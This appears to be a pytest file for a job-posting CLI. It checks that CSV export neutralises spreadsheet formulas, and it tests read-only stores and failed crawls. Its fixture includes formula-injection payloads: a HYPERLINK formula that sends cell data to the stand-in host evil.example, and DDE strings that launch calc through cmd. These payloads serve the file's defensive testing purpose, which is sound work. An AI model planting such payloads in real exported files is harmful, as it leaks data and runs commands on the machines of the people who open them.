"""What hostile or unlucky input does to `hitboard`: nothing runs, nothing is lost, one line."""

import csv
import json
import os
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from store.db import init_db, session_scope
from store.postings import upsert_postings
from tests.cli.boards import hitboard, hitboard_env, sources_toml
from tests.store.records import T0, posting

# Cells a spreadsheet would run as formulas (OWASP's list of leading characters).
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Medical Coder")',
    "company": "+1+cmd|' /C calc'!A0",
    "location": "-2+3",
    "salary_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "employment_type": "\tFull-time",
    "description_text": "\r=1+1",
}


# A board on a port where nothing listens: the crawl fails at once.
DEAD = "http://127.0.0.1:9/v1/boards/acme"


def _store_hostile_posting(tmp_path) -> str:
    return _store_hostile_posting_at(tmp_path / "hitboard.db")


def _store_hostile_posting_at(db_path: Path) -> str:
    url = f"sqlite:///{db_path}"
    engine = init_db(url)
    with session_scope(engine) as session:
        hostile = posting(1, **FORMULAS, certifications=["=RHIT", "CCS"])
        upsert_postings(session=session, records=[hostile, posting(2)], seen_at=T0, run_id=1)
    engine.dispose()
    return url


def test_csv_export_neutralizes_formulas_and_jsonl_keeps_the_raw_text(tmp_path):
    db = _store_hostile_posting(tmp_path)
    env = hitboard_env(tmp_path)
    out = tmp_path / "postings.csv"
    result = hitboard("export", "--format", "csv", "--db", db, "--out", str(out), env=env)
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as handle:  # a carriage return stays one
        rows = {row["external_id"]: row for row in csv.DictReader(handle)}
    hostile = rows["job-1"]
    for field, text in FORMULAS.items():
        assert hostile[field] == "'" + text, field
    assert hostile["certifications"] == "'=RHIT;CCS"
    # Plain text and numbers are written as they are.
    assert rows["job-2"]["title"] == "Medical Records Specialist 2"
    assert rows["job-2"]["salary_min"] == "20.0"

    lines = hitboard("export", "--format", "jsonl", "--db", db, env=env, timeout=60)
    assert lines.returncode == 0, lines.stderr
    raw = {r["external_id"]: r for r in map(json.loads, lines.stdout.splitlines())}
    assert {field: raw["job-1"][field] for field in FORMULAS} == FORMULAS


# -- a store that cannot be written, and runs that fail ---------------------------------


@contextmanager
def read_only(*paths: Path) -> Iterator[None]:
    """`paths` made read-only for this process: by mode bits, and for root (whom modes do not
    stop) by the immutable attribute as well."""
    modes = {path: path.stat().st_mode for path in paths}
    for path in paths:
        path.chmod(0o555 if path.is_dir() else 0o444)
    if os.geteuid() == 0:
        subprocess.run(["chattr", "+i", *map(str, paths)], check=True)
    try:
        yield
    finally:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", *map(str, paths)], check=True)
        for path, mode in modes.items():
            path.chmod(mode)


def _one_line_exit_1(result, db_path: Path, cause: str) -> None:
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"error: database sqlite:///{db_path}: "), lines[0]
    assert cause in lines[0], lines[0]


def test_a_read_only_store_is_read_and_refuses_writes_in_one_line(tmp_path):
    folder = tmp_path / "store"
    folder.mkdir()
    db_path = folder / "hitboard.db"
    db = _store_hostile_posting_at(db_path)
    sources = tmp_path / "sources.toml"
    sources.write_text(sources_toml([{"name": "acme", "kind": "greenhouse", "url": DEAD}]))
    env = hitboard_env(tmp_path)
    with read_only(db_path, folder):
        info = hitboard("info", "--db", db, env=env, timeout=60)
        exported = hitboard("export", "--format", "jsonl", "--db", db, env=env, timeout=60)
        crawled = hitboard("crawl", "--sources", str(sources), "--db", db, env=env, timeout=60)
    assert info.returncode == 0, info.stderr
    assert "postings: 2 (2 open)" in info.stdout
    assert exported.returncode == 0, exported.stderr
    assert len(exported.stdout.splitlines()) == 2
    _one_line_exit_1(crawled, db_path, "cannot be written")
    # Nothing stored was lost.
    again = hitboard("export", "--format", "jsonl", "--db", db, env=env, timeout=60)
    assert len(again.stdout.splitlines()) == 2


def test_a_store_folder_that_cannot_exist_gets_one_line(tmp_path):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the store's folder should be")
    db_path = blocker / "hitboard.db"
    for command in ("init", "info", "export"):
        result = hitboard(command, "--db", f"sqlite:///{db_path}", env=hitboard_env(tmp_path))
        _one_line_exit_1(result, db_path, f"{blocker} is a file, not a folder")


def test_a_failed_runs_line_names_its_first_error(tmp_path):
    sources = tmp_path / "sources.toml"
    sources.write_text(sources_toml([{"name": "acme", "kind": "greenhouse", "url": DEAD}]))
    db = f"sqlite:///{tmp_path / 'hitboard.db'}"
    result = hitboard("crawl", "--sources", str(sources), "--db", db, env=hitboard_env(tmp_path))
    assert result.returncode == 1
    line = next(line for line in result.stdout.splitlines() if line.startswith("acme"))
    assert "failed" in line and f"first error: {DEAD}" in line, line
    assert "Connection refused" in line or "connection" in line.lower(), line
